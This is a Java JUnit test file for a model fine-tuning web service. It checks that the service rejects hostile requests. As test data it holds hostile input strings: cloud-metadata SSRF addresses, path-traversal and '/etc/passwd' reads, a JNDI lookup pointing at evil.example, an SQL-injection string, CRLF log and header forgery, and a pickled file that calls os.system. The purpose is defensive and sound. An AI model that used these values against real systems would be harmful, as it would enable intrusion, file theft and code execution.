package dev.tunewright.service.security;

import static dev.tunewright.service.security.KeyedService.key;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import tools.jackson.databind.json.JsonMapper;

/** Requests that were made to hurt, by someone who has a key: each is refused in words, and nothing of it gets anywhere. */
@ExtendWith(OutputCaptureExtension.class)
@Timeout(60)
class HostileInputTest {

    private static final JsonMapper JSON = new JsonMapper();
    private static final String FORGED = "2026-01-01T00:00:00.000Z  INFO forged line";
    private static Path home;
    private static KeyedService service;

    @BeforeAll
    static void start(@TempDir Path folder) throws IOException {
        home = folder;
        service = new KeyedService(
                home,
                Map.of(
                        "tunewright.max-file-size", "1KB",
                        "tunewright.predict.max-text-length", 50,
                        "management.endpoints.web.exposure.include", "*",
                        "spring.datasource.password", "the-database-password"));
        Files.writeString(home.resolve("secret.txt"), "text\tlabel\nsecret\tsecret\n");
        Path pickled = Files.createDirectories(home.resolve("files/pickled"));
        Files.copy(home.resolve("files/bert/config.json"), pickled.resolve("config.json"));
        Files.copy(home.resolve("files/bert/tokenizer.json"), pickled.resolve("tokenizer.json"));
        Files.writeString(pickled.resolve("pytorch_model.bin"), "cos\nsystem\n(S'true'\ntR.");
        Files.writeString(home.resolve("files/large.tsv"), "text\tlabel\n" + "one\tno\n".repeat(500));
    }

    @AfterAll
    static void stop() {
        service.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://169.254.169.254/latest/meta-data",
                "https://evil.example/model",
                "ftp://evil.example/model",
                "//evil.example/model",
                "evil.example:8080/model",
                "..",
                "../secret",
                "org/..",
                "org/../x",
                "org/name/../../x",
                "org/name@../../x",
                "org/name@main?x=y",
                "org/name#x",
                "org%2f..%2fx",
                "org\\\\..\\\\x",
                "/etc/passwd",
                "C:\\\\Windows",
                "file:",
                "file:..",
                "file:../secret.txt",
                "file:/etc",
                "file:///etc/passwd",
                "file://evil.example/share",
                "file:bert/../../secret.txt",
                "file:bert\\u0000.txt",
                "embedded:../minilm",
                "embedded:http://evil.example",
                "job:../x",
                "job:http://evil.example",
                "org/na\\nme",
                "org/na\\u0000me",
                "\\u202eorg/name",
                "${jndi:ldap://evil.example/a}",
                "bert'; drop table job; --"
            })
    void checkpointThatIsNoNameIsRefusedByName(String checkpoint, CapturedOutput log) {
        HttpResponse<String> answer = job("\"" + checkpoint + "\"", "file:train.tsv");
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
        assertThat(fields(answer)).contains("checkpoint");
        assertThat(log.getOut()).doesNotContain("Exception");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "file:../secret.txt",
                "file:/etc/passwd",
                "file:files/../../secret.txt",
                "http://169.254.169.254/x.tsv",
                "train.tsv",
                "file:train.tsv\\u0000.csv",
                "file:bert/model.safetensors",
                "file:."
            })
    void dataFileOutsideTheRootsIsRefusedByName(String file) {
        HttpResponse<String> answer = job("\"file:bert\"", file);
        assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
        assertThat(fields(answer)).contains("dataset.files.train");
        assertThat(answer.body()).doesNotContain("secret\\tsecret").doesNotContain("root:");
    }

    @Test
    void dataSetNameThatIsAnAddressIsRefused() {
        for (String name : List.of("http://evil.example/x", "../x", "glue/../../x", "embedded:../x", "a/b/c/d/e")) {
            HttpResponse<String> answer = service.post(
                    "/jobs",
                    "{\"checkpoint\": \"file:bert\", \"dataset\": {\"name\": \"" + name + "\"}}",
                    key("admin"));
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
            assertThat(fields(answer)).contains("dataset.name");
        }
    }

    @Test
    void fileLargerThanTheLimitIsRefusedUnread() {
        HttpResponse<String> answer = job("\"file:bert\"", "file:large.tsv");
        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(answer.body()).contains("3511 bytes").contains("1024").contains("tunewright.max-file-size");
    }

    @Test
    void pickledCheckpointIsRefusedWithTheRemedy() {
        HttpResponse<String> answer = job("\"file:pickled\"", "file:train.tsv");
        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(answer.body()).contains("pytorch_model.bin").contains("safe_serialization=True");
    }

    @Test
    void namesWithControlCharactersAreRefused() {
        for (String field : List.of(
                "\"name\": \"a\\r\\n" + FORGED + "\"",
                "\"name\": \"a\\u001b[31m\"",
                "\"tags\": {\"a\": \"x\\ny\"}",
                "\"tags\": {\"a\\u0007\": \"x\"}")) {
            HttpResponse<String> answer = service.post(
                    "/jobs",
                    "{" + field + ", \"checkpoint\": \"file:bert\", \"dataset\": {\"files\":"
                            + " {\"train\": \"file:train.tsv\"}}}",
                    key("admin"));
            assertThat(answer.statusCode()).as(answer.body()).isEqualTo(422);
            assertThat(answer.body()).contains("control characters");
        }
    }

    @Test
    void forgedLinesReachNoLogAndNoHeader(CapturedOutput log) throws IOException {
        for (String header : List.of(
                "Idempotency-Key: a\r\n\t" + FORGED,
                "Idempotency-Key: a\u0001b",
                "Idempotency-Key: a\u007fb",
                "Last-Event-ID: 1\u0000",
                "X-Request-Id: x\r\n\t" + FORGED)) {
            String answer = raw(
                    "POST /jobs HTTP/1.1", header + "\r\nContent-Type: application/json\r\nContent-Length: 2", "{}");
            assertThat(answer).matches("(?s)HTTP/1.1 4(00|22) .*").contains("application/problem+json");
            assertThat(answer.substring(0, answer.indexOf("\r\n\r\n"))).doesNotContain("forged");
        }
        String inPath = FORGED.replace(" ", "%20");
        service.send("POST", "/jobs/x%0d%0a" + inPath + "/cancel", key("admin"));
        service.send("GET", "/jobs?name=x%0d%0a" + inPath, key("admin"));
        service.send("GET", "/jobs?status=x%0d%0a" + inPath, key("admin"));
        service.send("GET", "/jobs?after=%0d%0a" + inPath, key("admin"));
        job("\"x\\n" + FORGED + "\"", "file:x\\n" + FORGED);
        assertThat(log.getAll().lines().filter(line -> line.startsWith(FORGED)).toList())
                .isEmpty();
    }

    @Test
    void uploadIsKnownByItsSplitAndNotByItsFileName() throws IOException {
        String rows = "text\tlabel\none\tno\ntwo\tyes\n";
        HttpResponse<String> stored = upload("../../../evil.tsv", rows);
        assertThat(stored.statusCode()).as(stored.body()).isEqualTo(201);
        try (Stream<Path> all = Stream.concat(Files.walk(home), Files.list(home.getParent()))) {
            assertThat(all.filter(path -> path.endsWith("evil.tsv")).toList()).isEmpty();
        }
        for (String name :
                List.of("rows.zip", "rows.tar.gz", "rows.tsv.gz", "rows", "..", "rows.tsv/", "x\u0000.bin")) {
            HttpResponse<String> answer = upload(name, rows);
            assertThat(answer.statusCode()).as(name + answer.body()).isIn(400, 422);
        }
        assertThat(upload("rows.parquet", "PK\u0003\u0004" + rows).statusCode()).isEqualTo(422);
        assertThat(upload("rows.tsv", "text\tlabel\n" + "x".repeat(1_100_000) + "\tno\n")
                        .statusCode())
                .isEqualTo(422);
    }

    @Test
    void textLongerThanTheLimitIsRefused() {
        HttpResponse<String> answer = service.post(
                "/predict", "{\"model\": \"m\", \"inputs\": [\"" + "x".repeat(51) + "\"]}", key("predict"));
        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(fields(answer)).containsExactly("inputs[0]");
        assertThat(answer.body()).contains("had 51").contains("tunewright.predict.max-text-length");
    }

    @Test
    void settingsThatAreShownShowNoSecret(CapturedOutput log) {
        StringBuilder shown = new StringBuilder();
        for (String endpoint : List.of("env", "configprops", "beans", "conditions", "mappings")) {
            HttpResponse<String> answer = service.send("GET", "/actuator/" + endpoint, key("admin"));
            assertThat(answer.statusCode()).as(endpoint).isEqualTo(200);
            assertThat(service.send("GET", "/actuator/" + endpoint, key("read")).statusCode())
                    .isEqualTo(403);
            shown.append(answer.body());
        }
        assertThat(shown.toString() + log.getAll())
                .contains("tunewright.security.keys[0].hash")
                .doesNotContain("the-database-password")
                .doesNotContain(KeyHash.ofKey(key("admin")).toString())
                .doesNotContain(key("admin"));
    }

    private static HttpResponse<String> job(String checkpoint, String train) {
        return service.post(
                "/jobs",
                "{\"checkpoint\": " + checkpoint + ", \"dataset\": {\"files\": {\"train\": \"" + train + "\"}}}",
                key("admin"));
    }

    private static List<String> fields(HttpResponse<String> answer) {
        return JSON.readTree(answer.body())
                .path("errors")
                .valueStream()
                .map(error -> error.get("field").asString())
                .toList();
    }

    private static HttpResponse<String> upload(String fileName, String content) {
        String body =
                "--b\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nupload\r\n--b\r\nContent-Disposition:"
                        + " form-data; name=\"train\"; filename=\"" + fileName + "\"\r\n\r\n" + content
                        + "\r\n--b--\r\n";
        return service.upload(body, key("admin"));
    }

    private static String raw(String line, String headers, String body) throws IOException {
        URI address = URI.create(service.url);
        try (Socket socket = new Socket(address.getHost(), address.getPort())) {
            socket.setSoTimeout(20_000);
            socket.getOutputStream()
                    .write((line + "\r\nHost: localhost\r\nConnection: close\r\nAuthorization: Bearer " + key("admin")
                                    + "\r\n" + headers + "\r\n\r\n" + body)
                            .getBytes(StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
